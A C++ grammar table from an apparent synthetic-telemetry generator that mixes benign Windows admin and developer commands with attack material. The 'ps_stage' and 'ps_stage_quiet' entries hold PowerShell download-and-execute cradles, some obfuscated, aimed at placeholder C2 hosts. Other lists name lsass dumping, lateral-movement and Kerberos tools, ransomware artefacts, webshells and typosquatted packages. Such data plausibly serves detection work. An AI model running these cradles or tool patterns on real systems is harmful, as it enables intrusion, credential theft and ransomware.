// SPDX-License-Identifier: Apache-2.0
//
// The words of the grammar. Alternatives stand on lines of their own, or between bars.
#include <unordered_map>

#include "stages/produce/synthetic/world/grammar.h"

namespace tocsin::synthetic {
namespace {

struct Word {
  std::string_view name;
  std::string_view alternatives;
};

constexpr Word kWords[] = {
    {"topic",
     "Budget|Forecast|Invoice|Contract|Roadmap|Onboarding|Timesheet|Payroll|Audit|Campaign|"
     "Proposal|Minutes|Review|Offer|Vendor list|Price "
     "list|Travel|Inventory|Survey|Complaints|Training plan|Risk "
     "register|Headcount|Pipeline|Renewals|Policy|Handbook|Agenda|Benchmark|Claims"},
    {"client",
     "Halden|Orbis|Tessaro|Kestrel|Northwind|Fabrikam|Contoso|Lumen|Aster|Brightwater|Calder|"
     "Delmare|Everline|Foxglove|Granite|Hollis"},
    {"when",
     "{year}|{year}-{month}|Q{quarter} "
     "{year}|{day}.{month}|v{n}|v{n}.{n}|final|draft|{client}|{client} {year}|rev{n2}"},
    {"quarter", "1|2|3|4"},
    {"doc",
     "{topic} {when}|{client} "
     "{topic}|{topic}_{year}{month}{day}|{topic}-{n4}|{client}_{topic}_{when}"},
    {"folder",
     "Documents|Documents\\{client}|Documents\\{topic}|Desktop|Downloads|OneDrive - "
     "Meridian\\{topic}|OneDrive - Meridian\\{client}|Documents\\{year}"},
    {"share", "Finance|HR|Sales|Projects|Public|Marketing|Legal|Archive|Teams|Engineering"},
    {"sharedir",
     "{share}\\{client}|{share}\\{topic}|{share}\\{year}|{share}\\{year}\\{topic}|{share}"},
    {"officeext", "docx|xlsx|pptx|pdf|csv|txt|msg"},
    {"site",
     "www.office.com|outlook.office365.com|login.microsoftonline.com|github.com|www.google.com|www."
     "bing.com|docs.google.com|www.linkedin.com|stackoverflow.com|www.wikipedia.org|meridian."
     "sharepoint.com|teams.microsoft.com|www.salesforce.com|app.asana.com|www.bbc.co.uk|news."
     "ycombinator.com|www.booking.com|app.hubspot.com|www.figma.com|jira.meridian.example|wiki."
     "meridian.example|portal.meridian.example|www.youtube.com|fonts.gstatic.com|cdn.jsdelivr.net|"
     "www.adobe.com|zoom.us|www.dropbox.com|www.notion.so|trello.com"},
    {"cloudsite",
     "settings-win.data.microsoft.com|v10.events.data.microsoft.com|ctldl.windowsupdate.com|fe3cr."
     "delivery.mp.microsoft.com|slscr.update.microsoft.com|go.microsoft.com|config.edge.skype.com|"
     "edge.microsoft.com|officeclient.microsoft.com|nexusrules.officeapps.live.com|self.events."
     "data.microsoft.com|clients2.google.com|update.googleapis.com|ocsp.digicert.com|crl3.digicert."
     "com|wdcp.microsoft.com|arc.msn.com|time.windows.com|dl.delivery.mp.microsoft.com|tsfe."
     "trafficshaping.dsp.mp.microsoft.com"},
    {"rendererargs",
     "--type=renderer --lang=en-GB --js-flags=--ms-user-locale= --device-scale-factor=1 "
     "--num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n2} "
     "--time-ticks-at-unix-epoch=-1772{n5}{n5} --launch-time-ticks={n5}{n5} "
     "--field-trial-handle={n4},i,{n5}{n5}{n5},{n5}{n5}{n5},262144 --variations-seed-version "
     "--mojo-platform-channel-handle={n4} /prefetch:1|--type=utility "
     "--utility-sub-type=network.mojom.NetworkService --lang=en-GB --service-sandbox-type=none "
     "--field-trial-handle={n4},i,{n5}{n5}{n5},{n5}{n5}{n5},262144 --variations-seed-version "
     "--mojo-platform-channel-handle={n4} /prefetch:3|--type=gpu-process "
     "--gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAQAAAAAAAAAAAAAA "
     "--field-trial-handle={n4},i,{n5}{n5}{n5},262144 --variations-seed-version "
     "--mojo-platform-channel-handle={n4} /prefetch:2|--type=crashpad-handler "
     "--user-data-dir={q}{home}\\AppData\\Local\\{@vendordir}\\User Data{q} /prefetch:4 "
     "--monitor-self-annotation=ptype=crashpad-handler "
     "--initial-client-data=0x{h3},0x{h3},0x{h3},0x{h3},0x{h3},0x7ff{h8}0,0x7ff{h8}c,0x7ff{h8}8"},
    {"vendordir", "Google\\Chrome|Microsoft\\Edge"},
    {"repo",
     "ledger-api|ledger-web|billing|infra|design-system|reports|mobile-app|identity|notify|etl-"
     "jobs|portal|search-service|data-contracts|runbooks|gateway"},
    {"repodir",
     "C:\\src\\{@repo}|{home}\\source\\repos\\{@repo}|C:\\dev\\{@repo}|D:\\work\\{@repo}"},
    {"branch",
     "main|develop|feature/{ticket}|fix/{ticket}|release/{n}.{n2}|{user}/{ticket}|hotfix/"
     "{n}.{n}.{n}"},
    {"ticket", "LED-{n4}|OPS-{n3}|WEB-{n4}|DATA-{n3}|BILL-{n4}"},
    {"commit",
     "Fix {thing} in {module}|Add {thing}|Remove unused {thing}|{ticket}: update {module}|Bump "
     "{npmpkg} to {n}.{n2}.{n}|WIP {module}|Refactor {module} {thing}|Revert {ticket}"},
    {"thing",
     "pagination|retry logic|null check|rounding error|date parsing|caching|timeout|feature "
     "flag|logging|unit tests|header mapping|export|validation"},
    {"module",
     "invoices|orders|users|sessions|search|payments|exports|mailer|scheduler|metrics|auth|"
     "settings|webhooks|currency"},
    {"gitcmd",
     "fetch --all --prune|pull --rebase origin {branch}|push -u origin {branch}|status --porcelain "
     "-uall|checkout -b {branch}|checkout {branch}|commit -m {q}{commit}{q}|diff --stat "
     "HEAD~{n}|log --oneline -n {n2}|rebase -i HEAD~{n}|stash push -m {q}{ticket}{q}|merge --no-ff "
     "{branch}|clone https://github.com/meridian/{repo}.git|for-each-ref --sort -committerdate "
     "--format %(refname)|rev-parse --show-toplevel|config --get user.email|cherry-pick {h8}|blame "
     "-L {n2},{n3} src/{module}/index.ts|tag -a v{n}.{n}.{n} -m {q}{ticket}{q}|ls-files --stage -- "
     "src/{module}|worktree add ..\\{repo}-{ticket}"},
    {"npmpkg",
     "lodash|axios|react-query|eslint|typescript|vite|zod|date-fns|express|jest|webpack|prettier|"
     "playwright|pg|sass"},
    {"npmcmd",
     "ci|run build|run test -- --watch=false|install {npmpkg}@{n}.{n}.{n} --save-exact|run lint -- "
     "--fix|run start:dev|outdated --json|audit fix|run storybook -- -p {n4}|view {npmpkg} "
     "version|run e2e -- --grep {q}{module}{q}"},
    {"pypkg",
     "pandas|numpy|requests|sqlalchemy|polars|matplotlib|scikit-learn|openpyxl|pyarrow|fastapi|"
     "pytest|black|dbt-core"},
    {"pyscript",
     "etl_{module}.py --since {year}-{month}-{day}|report.py --out "
     "{q}{home}\\Documents\\{doc}.xlsx{q}|load_{module}.py --env dev --batch {n4}|train.py "
     "--epochs {n2} --seed {n3}|check_{module}.py -v|scrape_prices.py --limit {n3}|migrate.py "
     "upgrade head|manage.py runserver 0.0.0.0:8{n3}"},
    {"dotnetcmd",
     "build {repo}.sln -c Debug --no-restore|test tests\\{module}.Tests\\{module}.Tests.csproj "
     "--filter Category={module}|restore|run --project src\\{module} -- --port 5{n3}|ef migrations "
     "add {module}{n3}|publish -c Release -o artifacts\\{module}|tool restore|format "
     "--verify-no-changes"},
    {"dockercmd",
     "compose up -d {module}|build -t meridian/{repo}:{h8} .|logs -f {module}-{n}|exec -it "
     "{module}-1 sh|ps -a|system prune -f|push registry.meridian.example/{repo}:{n}.{n2}|pull "
     "registry.meridian.example/base/dotnet:{n}.{n}"},
    {"adminscript",
     "Get-StaleUsers.ps1|Sync-Groups.ps1|Rotate-IisLogs.ps1|Test-Backup.ps1|Export-Inventory.ps1|"
     "Check-DiskSpace.ps1|Set-Printers.ps1|Update-Dhcp.ps1|Repair-Wsus.ps1|New-Mailbox.ps1|Deploy-"
     "Agent.ps1|Remove-OldProfiles.ps1|Audit-LocalAdmins.ps1|Collect-Logs.ps1|Restart-AppPool.ps1"},
    {"scriptargs",
     "-Days {n2}|-ComputerName {anyhost}|-OutFile "
     "C:\\Temp\\{topic}-{n4}.csv|-Verbose|-WhatIf|-Site HQ{n}|-User {anyuser}|-Filter "
     "{q}OU=Staff{q}|-Confirm:$false|-Force -Depth {n}|-LogPath "
     "D:\\Logs\\ops-{year}{month}{day}.log"},
    {"ps_benign",
     "Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=meridian,DC=example' -Properties LastLogonDate "
     "| Where-Object { $_.LastLogonDate -lt (Get-Date).AddDays(-{n2}) } | Export-Csv "
     "C:\\Temp\\stale-{n4}.csv -NoTypeInformation\n"
     "Get-Service -ComputerName {anyhost} | Where-Object Status -eq 'Stopped' | Select-Object "
     "Name, StartType\n"
     "Get-EventLog -LogName System -Newest {n3} -EntryType Error | Group-Object Source\n"
     "Get-CimInstance Win32_LogicalDisk -ComputerName {anyhost} | Select-Object DeviceID, "
     "FreeSpace, Size\n"
     "Restart-Service -Name Spooler -Force; Start-Sleep -Seconds {n}; Get-Service Spooler\n"
     "Invoke-Command -ComputerName {anyhost} -ScriptBlock { Get-HotFix | Sort-Object InstalledOn "
     "-Descending | Select-Object -First {n} }\n"
     "$limit = (Get-Date).AddDays(-{n2}); Get-ChildItem D:\\Logs -Recurse | Where-Object { "
     "$_.CreationTime -lt $limit } | Remove-Item -Force\n"
     "Import-Module ActiveDirectory; Get-ADGroupMember -Identity '{share} Users' | Select-Object "
     "Name, SamAccountName\n"
     "Test-NetConnection -ComputerName {anyhost} -Port {n4}\n"
     "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize "
     "-Descending | Select-Object -First {n2}\n"
     "Set-ADAccountPassword -Identity {anyuser} -Reset -NewPassword (Read-Host -AsSecureString)\n"
     "foreach ($name in Get-Content C:\\Temp\\hosts-{n3}.txt) { Test-Connection $name -Count 1 "
     "-Quiet }\n"
     "Get-ScheduledTask | Where-Object State -ne 'Disabled' | Get-ScheduledTaskInfo | "
     "Export-Clixml C:\\Temp\\tasks-{n4}.xml\n"
     "Copy-Item \\\\{fs}\\Deploy$\\{repo}-{n}.{n}.{n}.msi -Destination C:\\Windows\\Temp -Force\n"
     "Get-WmiObject -Class Win32_Product | Where-Object { $_.Name -like '*{client}*' }\n"
     "Get-ChildItem 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall' | "
     "Get-ItemProperty | Select-Object DisplayName, DisplayVersion\n"
     "Get-SmbOpenFile | Where-Object Path -like '*{client}*' | Close-SmbOpenFile -Confirm:$false\n"
     "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'; Invoke-WebRequest "
     "https://{site}/api/health -UseBasicParsing | Select-Object StatusCode\n"
     "Get-DhcpServerv4Lease -ScopeId 10.20.{n2}.0 | Export-Csv C:\\Temp\\leases-{n4}.csv\n"
     "Add-ADGroupMember -Identity '{share} Users' -Members {anyuser}"},
    {"ps_agent",
     "Get-CimInstance -Namespace root\\ccm\\policy -ClassName CCM_SoftwareUpdate -Filter "
     "\"Version='{n2}'\"\n"
     "$r = Get-ItemProperty 'HKLM:\\SOFTWARE\\Meridian\\Agent'; if ($r.Build -lt {n4}) { exit 1 } "
     "else { exit 0 }\n"
     "Get-MpComputerStatus | Select-Object AMServiceEnabled, AntivirusSignatureAge | "
     "ConvertTo-Json -Compress\n"
     "(Get-Item 'C:\\Program Files\\Northgate "
     "Backup\\agent\\ngbagent.exe').VersionInfo.FileVersion -ge '8.{n}.{n}'\n"
     "Get-BitLockerVolume -MountPoint C: | Select-Object ProtectionStatus, EncryptionPercentage\n"
     "Get-WinEvent -FilterHashtable @{LogName='System';Id=41} -MaxEvents {n} -ErrorAction "
     "SilentlyContinue"},
    {"service",
     "BITS|Spooler|wuauserv|W32Time|WinRM|TrustedInstaller|AppIDSvc|gpsvc|sppsvc|DiagTrack|"
     "edgeupdate|ClipSVC|InstallService|WdiSystemHost|defragsvc|swprv|VSS|RemoteRegistry|PcaSvc|"
     "wlidsvc"},
    {"servicename",
     "Background Intelligent Transfer Service|Print Spooler|Windows Update|Windows Time|Windows "
     "Remote Management (WS-Management)|Windows Modules Installer|Application Identity|Software "
     "Protection|Microsoft Edge Update Service (edgeupdate)|Client License Service "
     "(ClipSVC)|Microsoft Store Install Service|Diagnostic System Host|Optimize drives|Microsoft "
     "Software Shadow Copy Provider|Volume Shadow Copy|Remote Registry|Program Compatibility "
     "Assistant Service|Microsoft Account Sign-in Assistant|Network Setup Service|WinHTTP Web "
     "Proxy Auto-Discovery Service"},
    {"updatetask",
     "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan|\\Microsoft\\Windows\\Windows "
     "Defender\\Windows Defender Scheduled Scan|\\Microsoft\\Office\\Office Automatic Updates "
     "2.0|\\GoogleUpdaterTaskSystem{n3}|\\MicrosoftEdgeUpdateTaskMachineUA|\\Adobe Acrobat Update "
     "Task|\\Northgate\\NightlyInventory"},
    {"database", "LedgerProd|LedgerStage|Billing|Reporting|Warehouse|Identity|Audit{year}"},
    {"sqltext",
     "SELECT TOP {n3} * FROM dbo.{module} WHERE created_at > '{year}-{month}-{day}'|EXEC "
     "dbo.usp_Refresh{module} @batch={n4}|UPDATE STATISTICS dbo.{module}|SELECT COUNT(*) FROM "
     "dbo.{module} WITH (NOLOCK)|EXEC sp_who2|DBCC CHECKDB('{database}') WITH NO_INFOMSGS|BACKUP "
     "LOG [{database}] TO DISK = N'E:\\Backup\\{database}_{year}{month}{day}{hour}.trn'"},
    {"printer", "HQ-1-Canon|HQ-2-Ricoh|HQ-3-HP|Warehouse-Zebra|Legal-Xerox"},
    {"msi",
     "MeridianLedger-11.{n}.{n}.msi|7z24{n2}-x64.msi|jdk-17.0.{n}.msi|TeamsBootstrapper-{n3}.msi|"
     "NorthgateAgent-8.{n}.{n}.msi|VcRedist-14.{n2}.msi|ZoomInstallerFull-6.{n}.msi"},
    {"dropdir",
     "{home}\\AppData\\Local\\Temp|C:\\Users\\Public|C:\\ProgramData|{home}\\AppData\\Roaming|C:"
     "\\Windows\\Temp|{home}\\Downloads|C:\\PerfLogs|C:\\Users\\Public\\Libraries"},
    {"implant",
     "svchostx|OneDriveSyncHelper|msedge_update|winupd{n2}|spoolhost|AdobeSync|taskhostex|{h8}|"
     "wuauclnt{n}|TeamsUpdate|jusched{n}|nvidia_share|chrome_proxyd"},
    {"lure",
     "Invoice_{n5}|Scan_{year}{month}{day}_{n4}|Salary_Review_{year}|Purchase_Order_{n5}|Delivery_"
     "Note_{n4}|CV_{last}_{n3}|Remittance_{client}|Contract_{client}_signed"},
    {"c2",
     "cdn-metrics-{h4}.example|static-assets-{n3}.example|api.telemetry-{h4}.example|mail-relay{n2}"
     ".example|update-checker-{n3}.test|img-{h6}.example|sync.docshare-{n2}.test"},
    {"keyname",
     "OneDriveUpdate|SecurityHealthTray|AdobeUpdater|TeamsMachineInstaller|WindowsDefenderUI|{h6}|"
     "JavaUpdateSched|GoogleUpdateTaskUser|MsEdgeCore|AudioSrvHelper"},
    {"taskname",
     "MicrosoftEdgeUpdateTaskCore{n2}|OneDrive Reporting "
     "Task|WindowsSyncProvider|AdobeFlashSync|{h8}|SystemHealthCheck|Office Telemetry "
     "{n2}|NvBackend{n3}"},
    {"password", "Winter{year}!|Summer{year}!|Meridian{n3}|Passw0rd{n2}|Welcome{year}|P@ss{n4}"},
    {"ps_stage",
     "IEX (New-Object Net.WebClient).DownloadString('http://{@c2}/{h6}.ps1')\n"
     "$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX "
     "$w.DownloadString('https://{@c2}/a/{h8}')\n"
     "Invoke-Expression (Invoke-WebRequest -Uri 'https://{@c2}/{h6}' -UseBasicParsing).Content\n"
     "$d=[System.Convert]::FromBase64String((irm "
     "https://{@c2}/{h4}));[System.Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)\n"
     "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIA{h32}{h32}'));IEX "
     "(New-Object IO.StreamReader(New-Object "
     "IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"},
    {"ps_stage_quiet",
     "&('{0}{1}'-f'ie','x') ((&('{1}{0}'-f'ent','New-Object "
     "Net.WebCli')).('Down'+'loadString').Invoke('http://{@c2}/{h6}'))\n"
     "$a='ne'+'t.we'+'bcl'+'ient';$b=new-object $a;. ( $ShellId[1]+$ShellId[13]+'x') "
     "($b.\"d`own`loads`tring\"('http://{@c2}/{h4}'))\n"
     "sal q ([char]105+'e'+'x');q((gcm n*-o*t)|%{(&$_ "
     "net.webclient)}|%{$_.openread('https://{@c2}/{h6}')}|%{(new-object io.streamreader "
     "$_).readtoend()})"},
    {"ransomext", "locked|crypt{n2}|{h5}|mrdn|enc{n}|blacklk"},
    {"ransomnote", "README_RESTORE.txt|HOW_TO_DECRYPT.html|!RECOVER-FILES!.txt|{h8}-readme.txt"},
    {"archive", "{topic}-{n4}|backup_{h6}|{h8}|docs{n3}|fin_{year}{month}|update_pkg{n2}"},
    {"scanner", "{anyhost}|{dc}|{fs}|{sql}"},
    {"gpoguid", "{{guid}}"},
    {"cpl", "main|timedate|sysdm|mmsys|powercfg|ncpa|desk|intl"},
    {"drive", "H|P|S|T|X|Y"},
    {"ipconfigarg", "/all|/flushdns|/renew|/displaydns|/release"},
    {"pingarg", "| -n {n2}| -t| -4| -a"},
    {"pytool",
     "pip install {pypkg}=={n}.{n}.{n}|venv .venv{n}|pytest tests/{module} -q -x|http.server "
     "8{n3}|black src/{module}|pip freeze|ipykernel_launcher -f "
     "{home}\\AppData\\Roaming\\jupyter\\runtime\\kernel-{guid}.json"},
    {"buildstep", "build|publish|lint|pack|generate-{module}|sync-{module}"},
    {"config", "Debug|Release|Staging|CI{n2}"},
    {"devproc", "node|dotnet|python|java|devenv|MSBuild"},
    {"admingroup",
     "Domain Admins|Domain Users|{share} Users|Enterprise Admins|VPN Users|Server "
     "Operators|Helpdesk"},
    {"nltestarg",
     "/dsgetdc:{dns}|/sc_query:{dns}|/dclist:{dns}|/domain_trusts|/sc_verify:{dns}|/"
     "server:{anyhost} /query"},
    {"adminremote",
     "cmd /c ipconfig /flushdns|powershell -ExecutionPolicy Bypass -File "
     "C:\\Scripts\\{adminscript}|msiexec /i \\\\{fs}\\Deploy$\\{msi} /qn|gpupdate /force|cmd /c "
     "net stop {service} && net start {service}|cmd /c dir C:\\Temp"},
    {"wmicquery",
     "os get caption,version,lastbootuptime|logicaldisk get name,freespace,size|process where "
     "name='{devproc}.exe' get processid,commandline|product get name,version|computersystem get "
     "model,username|qfe list brief|service where (state='running') get name,startname|bios get "
     "serialnumber|nic get macaddress,name"},
    {"scquery",
     "query {service}|qc {service}|start {service}|stop {service}|query type= service state= "
     "all|config {service} start= demand"},
    {"regleaf",
     "Run|Uninstall /s|Policies\\System|WindowsUpdate|Group Policy\\History|Explorer\\Shell "
     "Folders"},
    {"whoamiarg", "| /groups| /priv| /all| /upn"},
    {"msc",
     "services|compmgmt|eventvwr|dnsmgmt|dhcpmgmt|gpmc|taskschd|diskmgmt|lusrmgr|certlm|wf|dsa"},
    {"crashed", "w3wp|sqlservr|spoolsv|ngbagent|Ledger|EXCEL|OUTLOOK"},
    {"certarg",
     "store My|verifystore Root|dump C:\\Temp\\{topic}.cer|ping -config "
     "{dc}\\Meridian-CA|viewstore My|template|pulse"},
    {"vss", "shadows|writers|shadowstorage|volumes|providers"},
    {"netsharg",
     "advfirewall firewall add rule name={q}{client} {n4}{q} dir=in action=allow protocol=TCP "
     "localport={n4}|interface ip show config|advfirewall show currentprofile|winhttp show "
     "proxy|dhcp server show scope|wlan show profiles|int tcp show global"},
    {"dsqueryarg",
     "user -inactive {n} -limit {n2}|computer -stalepwd {n2}|group -name {q}{share}*{q}|ou "
     "DC=meridian,DC=example|server -hasfsmo pdc|* -filter "
     "{q}(&(objectClass=user)(adminCount=1)){q} -limit 0"},
    {"repadminarg", "replsummary|showrepl {dc}|syncall {dc} /AdeP|queue|showbackup"},
    {"klistarg", "tickets|purge|tgt|get krbtgt|sessions"},
    {"mparg",
     "SignatureUpdate -ScheduleJob -RestrictPrivileges|Scan -ScheduleJob -RestrictPrivileges "
     "-DailyScan|-IdleTask -TaskName WdCacheMaintenance|GetDeviceTicket -AccessKey "
     "{h32}|-SignatureUpdate -MMPC"},
    {"taskhostarg", "|Install $(Arg0)|SYSTEM|NGCKeyPregen|KEYROAMING|None|/RuntimeWide|WpnCleanup"},
    {"censusarg", "|SystemCxt|UserCxt"},
    {"usoarg", "StartScan|StartUWork|RefreshSettings|ResumeUpdate|StartOobeAppsScan"},
    {"edgearg",
     "/ua /installsource scheduler|/c|/ping {h32}|/registermsihelper|/handoff "
     "{q}appguid={guid}&ap=&lang=en{q}"},
    {"dumpext", "dmp|bin|dat|log|tmp"},
    {"miminame", "mimikatz|m64|katz|{h6}|svchelper|mimi"},
    {"dumpname", "procdump64|procdump|pd|{h5}|diagtool"},
    {"lsasspid", "{n3}|(Get-Process lsass).Id|7{n2}"},
    {"psexecname", "PsExec64|PsExec|px|{h5}|remadm"},
    {"payload2",
     "C:\\Windows\\Temp\\{h6}.bat|C:\\PerfLogs\\{implant}.exe|rundll32 "
     "C:\\ProgramData\\{h6}.dll,Start|whoami|powershell -nop -w hidden -enc "
     "{enc:ps_stage}|C:\\Users\\Public\\{implant}.exe -q"},
    {"svcname", "{h8}|WinSyncSvc{n2}|msupdate{n2}|{implant}|SysHealth"},
    {"rarname", "rar|WinRAR|r64|{h4}|compact_{n2}"},
    {"rclonename", "rclone|rc|svchost{n}|{h5}|syncagent"},
    {"c2pipe",
     "msagent_{h2}|postex_{h4}|status_{h2}|MSSE-{n4}-server|mojo.{n4}.{n4}.{n5}{n5}{n5}|{h8}|"
     "srvsvc_{h2}|crashpad_{n4}_{h8}"},
    {"stopsvc", "MSSQLSERVER|vss|sql|svc$|memtas|mepocs|sophos|veeam|backup|ngbagent"},
    {"stopproc", "sqlservr|ngbagent|outlook|excel|winword|ledger|sqlagent|firefox|onenote"},
    {"webshellname",
     "uploads\\{h6}.aspx|error_{n2}.aspx|api\\health{n}.ashx|images\\logo.aspx|{h8}.asp"},
    {"potato", "JuicyPotatoNG|PrintSpoofer64|{h6}|gp|svc{n2}"},
    {"plinkname", "plink|pl|{h5}|winssh"},
    {"evilpkg",
     "lodahs|reqeust-promise|colour-string|electron-logs|eslint-config-{h4}|vite-plugin-{h4}"},
    {"rmmname", "AnyDesk|ScreenConnect.ClientSetup|Support-{n4}|QuickHelp|MeridianHelpdesk"},
    {"adfindname", "AdFind|af|{h5}|adq"},
    {"rubeusname", "Rubeus|rb|{h6}|ktool"},
    {"houndname", "SharpHound|sh|{h6}|adinv"},
    {"guessname", "administrator|admin|test|root|guest|scanner|backup|sql|user1|support"},
    {"backdoor", "support_{h4}|WDAGUtility{n2}|helpdesk{n}|svc_{h4}|DefaultUser{n}"},
    {"wminame", "Updater|SCM Event8 Log Filter2|{h8}|BVTFilters|TelemetrySink"},
    {"minername", "xmrig|svchost64|{h6}|java_update|kworker"},
    {"scanname", "Advanced_IP_Scanner|netscan|{h5}|masscan|ipinv"},
    {"ccmaction",
     "SoftwareInventory|HardwareInventory|PolicyEvaluation|UpdateScan|ComplianceCheck|"
     "AppEvaluation"},
    {"gpoext", "Registry|Security|Scripts|Printers|Drives|Firewall|Audit"},
    {"appcmdarg",
     "list apppool /xml|recycle apppool /apppool.name:PortalPool|list wp|list site|set config "
     "-section:httpLogging /dontLog:false"},
    {"webpage", "default|login|orders|invoice|report|api/{module}|upload|search"},
    {"backupjob", "Nightly-{share}|Weekly-SQL|Image-{host}|Log-{database}|Archive-{share}"},
    {"ngenarg",
     "ExecuteQueuedItems /LegacyServiceBehavior|update /queue|install {q}C:\\Program "
     "Files\\{client}\\{module}.dll{q} /nologo"},
    {"driverfile", "e1d68x64|nvlddmkm|RTKVHD64|iaStorAC|vmci|WdFilter|intelppm"},
};

std::unordered_map<std::string_view, std::vector<std::string_view>> split_all() {
  std::unordered_map<std::string_view, std::vector<std::string_view>> all;
  for (const Word& word : kWords) {
    const char separator = word.alternatives.find('\n') != std::string_view::npos ? '\n' : '|';
    std::string_view rest = word.alternatives;
    auto& list = all[word.name];
    for (;;) {
      const std::size_t end = rest.find(separator);
      list.push_back(rest.substr(0, end));
      if (end == std::string_view::npos) break;
      rest.remove_prefix(end + 1);
    }
  }
  return all;
}

}  // namespace

const std::vector<std::string_view>& words(std::string_view name) {
  static const auto kAll = split_all();
  static const std::vector<std::string_view> kNone;
  const auto found = kAll.find(name);
  return found == kAll.end() ? kNone : found->second;
}

}  // namespace tocsin::synthetic
